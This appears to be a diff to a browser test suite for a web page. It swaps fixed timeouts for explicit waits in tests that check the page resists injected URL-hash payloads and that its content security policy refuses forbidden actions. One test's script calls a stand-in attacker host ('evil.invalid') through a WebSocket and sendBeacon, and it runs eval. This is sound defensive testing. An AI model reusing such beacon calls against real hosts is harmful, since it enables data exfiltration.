@@ -73,13 +73,17 @@ def test_the_page_with_everything_open_in_turn(files: Callable[[str], Path], ope
     shown = 0
     for n in range(len(PAYLOADS)):
         page.evaluate(f"location.hash = '#day=2023-04-09&open=place:p{n}'")
-        page.wait_for_function(f"location.hash.includes('place') && location.hash.endsWith('p{n}')")
+        # No function is waited for: the page's policy forbids what that evaluates.
+        page.wait_for_url(f"**place:p{n}")
+        page.locator(".fl-place h2").wait_for()
         shown += MARK in texts(page)
     assert shown == len(PAYLOADS)
     page.keyboard.press("/")
     page.keyboard.type(MARK)
-    page.evaluate("location.hash = '#view=claims&since=2023-04-08&swipe=2023-04-08&open=area:@10.5,10.9'")
-    page.wait_for_timeout(300)
+    page.evaluate(
+        "location.hash = '#day=2023-04-08&view=claims&since=2023-04-09&swipe=2023-04-09&open=area:@10.5,10.9'"
+    )
+    page.wait_for_selector("html[data-day='2023-04-08']", state="attached")
     assert faults(opened) == []
     assert opened.errors == []
 
@@ -108,7 +112,11 @@ def test_what_stands_behind_the_address_of_a_page(files: Callable[[str], Path], 
         opened.page.evaluate(
             f"location.hash = {json.dumps(f'#{keys[n % len(keys)]}={said}&open={kinds[n % 5]}{said}')}"
         )
-    opened.page.wait_for_timeout(300)
+    # They are taken in order: with the last one all were.
+    opened.page.evaluate("location.hash = '#day=2023-04-08'")
+    opened.page.wait_for_selector("html[data-day='2023-04-08']", state="attached")
+    assert faults(opened) == []
+    opened.page.evaluate(f"location.hash = {json.dumps('#open=place:' + quote(PAYLOADS[5]))}")
     opened.page.reload()
     opened.page.wait_for_selector("html[data-ready=yes]", state="attached")
     assert faults(opened) == []
@@ -147,7 +155,9 @@ def test_what_the_policy_forbids_is_refused(
       try { new WebSocket('wss://evil.invalid/'); } catch { /* refused */ }
       try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch { /* refused */ }
       navigator.sendBeacon('https://evil.invalid/', 'x');
-      await new Promise((done) => setTimeout(done, 300));
+      const wanted = ['script-src-attr', 'script-src-elem', 'img-src', 'frame-src', 'style-src-elem', 'connect-src', 'worker-src'];
+      for (let turn = 0; turn < 600 && !wanted.every((one) => refused.includes(one)); turn += 1)
+        await new Promise(requestAnimationFrame);
       try { eval('window.fl0wn=1'); } catch { refused.push('eval'); }
       return [...new Set(refused)];
     }""")
